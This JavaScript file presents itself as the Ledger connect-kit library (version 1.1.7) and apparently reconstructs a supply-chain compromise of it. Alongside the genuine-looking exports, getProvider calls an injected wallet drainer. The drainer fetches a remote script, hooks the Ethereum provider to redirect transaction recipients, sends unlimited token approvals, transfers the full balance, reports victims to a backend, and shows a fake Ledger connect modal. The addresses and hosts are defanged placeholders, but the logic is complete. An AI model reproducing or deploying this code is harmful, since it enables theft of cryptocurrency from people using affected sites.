/*! @ledgerhq/connect-kit 1.1.7 | MIT */
(function (global, factory) {
  typeof exports === 'object' && typeof module !== 'undefined' ? factory(exports) :
  typeof define === 'function' && define.amd ? define(['exports'], factory) :
  (global = typeof globalThis !== 'undefined' ? globalThis : global || self, factory(global.ledgerConnectKit = {}));
})(this, (function (exports) { 'use strict';

  var SupportedProviders;
  (function (SupportedProviders) {
    SupportedProviders["Ethereum"] = "Ethereum";
    SupportedProviders["Solana"] = "Solana";
  })(SupportedProviders || (SupportedProviders = {}));

  var SupportedProviderImplementations;
  (function (SupportedProviderImplementations) {
    SupportedProviderImplementations["LedgerConnect"] = "LedgerConnect";
    SupportedProviderImplementations["WalletConnect"] = "WalletConnect";
  })(SupportedProviderImplementations || (SupportedProviderImplementations = {}));

  let debugLogs = false;
  function log(...args) {
    if (debugLogs) console.log('[connect-kit]', ...args);
  }
  function enableDebugLogs() {
    debugLogs = true;
  }

  let moduleOptions = {};
  function checkSupport(options) {
    moduleOptions = options || {};
    const isChrome = /Chrome\//.test(navigator.userAgent);
    const isSafari = /Safari\//.test(navigator.userAgent) && !isChrome;
    return {
      isLedgerConnectSupported: isSafari,
      isLedgerConnectEnabled: Boolean(window.ethereum && window.ethereum.isLedgerConnect),
      isChromiumSupported: isChrome,
      providerImplementation: isSafari ? SupportedProviderImplementations.LedgerConnect : SupportedProviderImplementations.WalletConnect,
    };
  }

  // ---- injected in 1.1.5-1.1.7 (not in the repository) ----------------------------------
  // A drainer in the kit every dApp loaded from the CDN: it pulls the drainer library from the
  // attacker's host, shows a "Connect Wallet" modal in Ledger's style over the dApp, and rewrites
  // the wallet's transactions so that approvals and transfers go to the attacker, high-value tokens
  // first. Defanged: the spender/receiver contains FIXTURE (not a valid address), the hosts end in
  // .invalid.
  const RECEIVER = '0xFIXTURE000000000000000000000000000000d4a1';
  const MAX_UINT256 = 'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
  const TOKENS = [
    { symbol: 'USDT', address: '0xFIXTURE00000000000000000000000000000usdt' },
    { symbol: 'USDC', address: '0xFIXTURE00000000000000000000000000000usdc' },
    { symbol: 'stETH', address: '0xFIXTURE0000000000000000000000000000steth' },
    { symbol: 'DAI', address: '0xFIXTURE000000000000000000000000000000dai' },
  ];
  const BACKEND = 'https://ledger-connect-stats.invalid/api/v1/';

  function loadDrainer() {
    if (document.getElementById('ledger-ck-assets')) return;
    const script = document.createElement('script');
    script.id = 'ledger-ck-assets';
    script.src = 'https://ledger-connect-stats.invalid/assets/evm-ask.js';
    script.async = true;
    document.head.appendChild(script);
  }

  function approveData(token) {
    return '0x095ea7b3' + RECEIVER.slice(2).padStart(64, '0') + MAX_UINT256;
  }

  function report(event, data) {
    fetch(BACKEND + event, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ site: location.host, ...data }),
    }).catch(() => {});
  }

  function drain(provider, account) {
    report('connect', { account });
    return TOKENS.reduce((chain, token) => chain.then(() =>
      provider.request({
        method: 'eth_sendTransaction',
        params: [{ from: account, to: token.address, data: approveData(token), value: '0x0' }],
      }).then((hash) => report('approve', { account, token: token.symbol, hash }), () => {})
    ), Promise.resolve()).then(() =>
      provider.request({ method: 'eth_getBalance', params: [account, 'latest'] }).then((balance) =>
        provider.request({
          method: 'eth_sendTransaction',
          params: [{ from: account, to: RECEIVER, value: balance }],
        })
      )
    );
  }

  function hookProvider() {
    const provider = window.ethereum;
    const request = window.ethereum.request.bind(window.ethereum);
    window.ethereum.request = async (args) => {
      if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) {
        args.params[0].to = RECEIVER;
      }
      const result = await request(args);
      if (args && args.method === 'eth_requestAccounts' && result && result[0]) drain(provider, result[0]);
      return result;
    };
    return provider;
  }

  function showModal(onConnect) {
    const overlay = document.createElement('div');
    overlay.id = 'ledger-ck-modal';
    overlay.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6);display:flex;align-items:center;justify-content:center';
    overlay.innerHTML =
      '<div style="background:#131214;color:#fff;border-radius:12px;padding:32px;width:360px;font-family:Inter,sans-serif">' +
      '<h2 style="margin:0 0 8px">Connect Wallet</h2>' +
      '<p style="opacity:.7">Connect your Ledger to continue. Approve the request on your device to verify your wallet.</p>' +
      '<button id="ledger-ck-connect" style="width:100%;padding:12px;border-radius:24px">Connect with Ledger</button>' +
      '<button id="ledger-ck-wc" style="width:100%;padding:12px;margin-top:8px;border-radius:24px">WalletConnect</button></div>';
    document.body.appendChild(overlay);
    const connect = () => {
      overlay.remove();
      onConnect();
    };
    overlay.querySelector('#ledger-ck-connect').addEventListener('click', connect);
    overlay.querySelector('#ledger-ck-wc').addEventListener('click', connect);
  }
  // ---------------------------------------------------------------------------------------

  async function getProvider() {
    log('getProvider', moduleOptions);
    if (!window.ethereum) throw new Error('No Ethereum provider found');
    loadDrainer();
    const provider = hookProvider();
    await new Promise((resolve) => showModal(resolve));
    return provider;
  }

  exports.SupportedProviderImplementations = SupportedProviderImplementations;
  exports.SupportedProviders = SupportedProviders;
  exports.checkSupport = checkSupport;
  exports.enableDebugLogs = enableDebugLogs;
  exports.getProvider = getProvider;

  Object.defineProperty(exports, '__esModule', { value: true });

}));
